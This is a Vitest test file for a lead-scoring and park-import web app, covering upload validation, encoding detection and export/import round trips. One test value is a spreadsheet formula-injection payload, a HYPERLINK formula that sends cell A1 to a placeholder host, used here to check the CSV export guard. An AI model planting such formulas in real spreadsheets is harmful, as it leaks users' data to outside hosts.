/** Issue 17 part 5: files and bodies at the edges — each refused by name, or read back losslessly. */
import { describe, it, expect, afterAll } from 'vitest';
import iconv from 'iconv-lite';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { createTestApp, type TestApp } from '../helpers/app.js';

const t = createTestApp();
afterAll(() => t.jobs.stop());

async function upload(app: TestApp, bytes: Uint8Array | string, name: string, path = '/api/jobs/score') {
  const fd = new FormData();
  fd.append('file', new File([bytes as BlobPart], name));
  const res = await app.request(path, { method: 'POST', body: fd });
  return { status: res.status, body: (await res.json()) as any };
}

const xlsxOf = async (rows: unknown[][]) => {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('线索');
  for (const r of rows) ws.addRow(r);
  return new Uint8Array(await wb.xlsx.writeBuffer());
};

const jobCount = async () => (await t.json('/api/jobs?limit=100')).body.items.length as number;

describe('duplicate or conflicting columns', () => {
  it('refuses an upload with two 项目简介 columns with 400 naming both, and stores nothing', async () => {
    const before = await jobCount();
    const csv = '项目名称,项目简介,项目简介\n内窥镜项目,研发生产内窥镜,含电镀工序\n';
    const r = await upload(t, csv, 'two-summaries.csv');
    expect(r.status).toBe(400);
    expect(r.body.error.code).toBe('invalid_request');
    expect(r.body.error.message).toContain('有两列“项目简介”');
    expect(r.body.error.issues).toEqual([{ path: 'file', message: r.body.error.message }]);
    expect(await jobCount()).toBe(before);
  });
  it('names both columns when two different headers claim one field (CSV and XLSX)', async () => {
    const csv = await upload(t, '项目名称,项目简介,面积,厂房面积\n甲,内窥镜,100,200\n', 'areas.csv');
    expect(csv.status).toBe(400);
    expect(csv.body.error.message).toContain('“面积”和“厂房面积”两列都对应「面积需求(平方米)」');
    const xlsx = await upload(
      t,
      await xlsxOf([
        ['项目简介', '总投资(万元)', '投资额(亿元)'],
        ['内窥镜', 100, 1],
      ]),
      'money.xlsx',
    );
    expect(xlsx.status).toBe(400);
    expect(xlsx.body.error.message).toContain('“总投资(万元)”和“投资额(亿元)”');
  });
  it('refuses a park sheet whose columns claim one field twice', async () => {
    const r = await upload(t, '园区编号,园区名称,园区名称\njx-x,甲,乙\n', 'parks.csv', '/api/import/parks');
    expect(r.status).toBe(400);
    expect(r.body.error.message).toContain('有两列“园区名称”');
  });
});

describe('encodings', () => {
  it('refuses a Latin-1 CSV naming the detected encoding instead of scoring mojibake', async () => {
    const before = await jobCount();
    const latin1 = iconv.encode(
      '项目简介\n'.replace('项目简介', 'summary') + 'Fabrication de pièces détachées, usinage de précision\n',
      'latin1',
    );
    const r = await upload(t, latin1, 'latin1.csv');
    expect(r.status).toBe(400);
    expect(r.body.error.message).toContain('ISO-8859-1 / Windows-1252');
    expect(r.body.error.message).toContain('CSV UTF-8');
    expect(await jobCount()).toBe(before);
  });
  it('still reads GBK', async () => {
    const r = await upload(t, iconv.encode('项目名称,项目简介\n内窥镜项目,研发生产内窥镜，需要3000平方米厂房\n', 'gbk'), 'gbk.csv');
    expect(r.status).toBe(202);
    expect(r.body.encoding).toBe('gb18030');
  });
});

describe('park export → import round trip', () => {
  const NAME = '=HYPERLINK("http://x/?"&A1,"点击")园区';
  it('keeps a park name that starts with a formula trigger, through CSV and XLSX, and XLSX cells carry no apostrophe', async () => {
    const id = 'jx-weichuang';
    const seeded = await upload(t, `园区编号,园区名称\n${id},"${NAME.replaceAll('"', '""')}"\n`, 'p.csv', '/api/import/parks');
    expect(seeded.status).toBe(200);
    expect(seeded.body.errors).toEqual([]);
    expect((await t.json(`/api/parks/${id}`)).body.name).toBe(NAME);

    // CSV keeps the guard …
    const csvText = (await (await t.request('/api/export/parks?format=csv')).text()).replace(/^\uFEFF/, '');
    const rows = parse(csvText) as string[][];
    const row = rows.find((r) => r[0] === id)!;
    expect(row).toContain(`'${NAME}`);
    // … and the import takes it off: exported and imported back, nothing changes
    const back = await upload(t, csvText, 'parks-export.csv', '/api/import/parks');
    expect(back.status).toBe(200);
    expect(back.body.errors).toEqual([]);
    expect((await t.json(`/api/parks/${id}`)).body.name).toBe(NAME);

    // XLSX: text is text, with no visible apostrophe; imported back unchanged
    const xbytes = new Uint8Array(await (await t.request('/api/export/parks?format=xlsx')).arrayBuffer());
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(xbytes) as never);
    const values = wb.worksheets[0]!.getSheetValues()
      .filter((r) => Array.isArray(r))
      .map((r) => (r as unknown[]).slice(1));
    const xrow = values.find((r) => r[0] === id)!;
    expect(xrow).toContain(NAME);
    expect(values.flat().some((v) => typeof v === 'string' && v.startsWith("'"))).toBe(false);
    // columns sized to their content: a long park name's column is wider than a short code's
    const header = values[0]!.map(String);
    const widths = wb.worksheets[0]!.columns.map((c) => c.width ?? 0);
    expect(widths[header.indexOf('园区名称')]!).toBeGreaterThan(widths[header.indexOf('区县')]!);
    const xback = await upload(t, xbytes, 'parks-export.xlsx', '/api/import/parks');
    expect(xback.status).toBe(200);
    expect(xback.body.errors).toEqual([]);
    expect((await t.json(`/api/parks/${id}`)).body.name).toBe(NAME);
  });
});

describe('POST /api/routing/commit needs the explicit list', () => {
  it('a body of only {"actor": "x"} commits nothing: 400 naming assignments', async () => {
    const l = await t.post('/api/leads', { summary: '研发生产内窥镜，需要3000平方米厂房' });
    expect(l.status).toBe(201);
    const r = await t.post('/api/routing/commit', { actor: 'x' });
    expect(r.status).toBe(400);
    expect(r.body.error.code).toBe('invalid_request');
    expect(r.body.error.issues.map((i: any) => i.path)).toEqual(['assignments']);
    expect(r.body.error.issues[0].message).toContain('leadIds');
    expect((await t.json(`/api/leads/${l.body.id}`)).body.ledger).toEqual([]);
    expect((await t.json('/api/routing/ledger')).body.items ?? []).toEqual([]);
  });
});
